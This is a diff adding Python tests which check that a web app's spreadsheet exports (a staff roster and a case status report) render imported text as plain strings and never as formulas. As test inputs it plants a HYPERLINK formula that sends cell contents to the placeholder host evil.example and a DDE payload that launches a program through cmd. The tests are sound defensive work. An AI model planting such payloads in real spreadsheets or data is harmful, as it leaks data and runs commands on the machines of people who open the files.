@@ -141,3 +141,50 @@ def test_a_forged_or_revoked_feed_is_not_found(client, world: World) -> None:  #
     with world.db.write() as session:
         revoke_tokens(session, NOW, token_id=token_id)
     assert client.get(f"/calendar/{feed_id(WEB.secret, token_id)}.ics").status_code == 404  # type: ignore[arg-type]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此核对")'
+
+
+def _no_live_cell(book, *, expected: set[str]) -> None:  # type: ignore[no-untyped-def]
+    """No cell is a formula, and each planted text comes back as the same text."""
+    seen: set[str] = set()
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value}"
+                if isinstance(cell.value, str) and cell.value in expected:
+                    assert cell.data_type == "s" and cell.quotePrefix
+                    seen.add(cell.value)
+    assert seen == expected
+
+
+def test_imported_text_is_never_a_formula_in_the_roster(client, world: World) -> None:  # type: ignore[no-untyped-def]
+    from sqlmodel import select
+
+    from models.org import Contact
+
+    with world.db.write() as session:
+        contact = session.exec(select(Contact).where(Contact.name == "王明")).one()
+        contact.name, contact.department, contact.title = FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1)"
+        session.add(contact)
+    sign_in(client, world.token("province"))
+    response = client.get(f"/exports/{CLUSTER}/cities/330100/roster.xlsx")
+    assert response.status_code == 200
+    expected = {FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1)"}
+    _no_live_cell(load_workbook(BytesIO(response.content)), expected=expected)
+
+
+def test_imported_text_is_never_a_formula_in_the_status_report(client, world: World) -> None:  # type: ignore[no-untyped-def]
+    from sqlmodel import select
+
+    from models.case import Case
+
+    with world.db.write() as session:
+        case = session.exec(select(Case).where(Case.ref == world.refs["xihu_core"])).one()
+        case.title = FORMULA
+        session.add(case)
+    sign_in(client, world.token("province"))
+    response = client.get(f"/exports/{CLUSTER}/status.xlsx")
+    assert response.status_code == 200
+    _no_live_cell(load_workbook(BytesIO(response.content)), expected={FORMULA})
